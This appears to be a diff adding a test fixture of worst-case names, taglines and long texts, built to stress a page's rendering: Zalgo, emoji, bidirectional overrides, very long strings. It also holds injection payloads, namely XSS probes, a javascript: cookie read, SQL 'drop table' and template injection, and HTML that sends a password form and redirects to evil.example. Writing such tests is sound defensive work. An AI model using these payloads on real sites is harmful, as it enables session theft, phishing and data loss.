@@ -1,0 +1,47 @@
+const piled = [...'Zalgo comes'].map((letter) => letter + '\u0300\u0316\u0334\u0341\u0353\u0489'.repeat(2)).join('')
+const family = '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'
+
+/** Names of people of whom each would break a page of its own: all of them are taken. */
+export const worstNames = [
+  'محمد عبد الله الأحمدي',
+  'W'.repeat(40),
+  piled,
+  '﷽'.repeat(40),
+  family.repeat(10),
+  '<img src=x onerror=alert(1)>',
+  '"><svg onload=alert(1)>',
+  'מיכל (Michal) כהן 1984',
+  'i'.repeat(40),
+  '{{7*7}} ${alert(1)} </script>',
+  "'; drop table members; -- __proto__",
+]
+
+/** What they say of themselves, and write above a message. */
+export const worstLines = [
+  'W'.repeat(120),
+  '\u202eEmily is backwards, and never ends',
+  '﷽'.repeat(120),
+  'سهرة في ٣٠ نوفمبر 2026 (Birmingham)!',
+  piled.slice(0, 120),
+  '<script>alert(1)</script><img src="https://evil.example/pixel.png">',
+  '" onmouseover="alert(1)" style="position:fixed;inset:0" x="',
+  `https://evil.example/?${'q'.repeat(90)}`,
+  family.repeat(10),
+  '</title></style></textarea><plaintext><iframe srcdoc="<script>parent.alert(1)</script>">',
+  'javascript:alert(document.cookie)',
+]
+
+/** What they write at length. */
+export const worstTexts = [
+  'W'.repeat(3_000),
+  `${'line\n'.repeat(300)}end`,
+  piled.repeat(9),
+  '\u2067isolated and left open \u202e turned and left open',
+  'סיפור ארוך (1) על ערב אחד, 7:30 pm.\n'.repeat(20),
+  '<h1>Taken over</h1><form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)></form>',
+  '<style>*{display:none}</style><base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">',
+  `Go to https://evil.example/${'path/'.repeat(400)}`,
+  family.repeat(200),
+  '﷽'.repeat(1_000),
+  '\u00a0'.repeat(400) + 'far to the right',
+]
